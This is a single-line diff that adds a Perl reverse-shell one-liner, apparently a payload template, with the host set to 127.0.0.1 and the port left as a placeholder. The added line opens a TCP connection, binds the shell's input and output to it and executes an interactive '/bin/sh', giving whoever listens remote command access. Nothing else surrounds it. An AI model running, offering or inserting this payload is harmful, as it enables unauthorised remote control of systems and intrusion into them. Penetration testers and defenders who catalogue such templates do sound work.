@@ -1,0 +1,1 @@
+perl -e 'use Socket;$i="127.0.0.1";$p=@PORT@;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
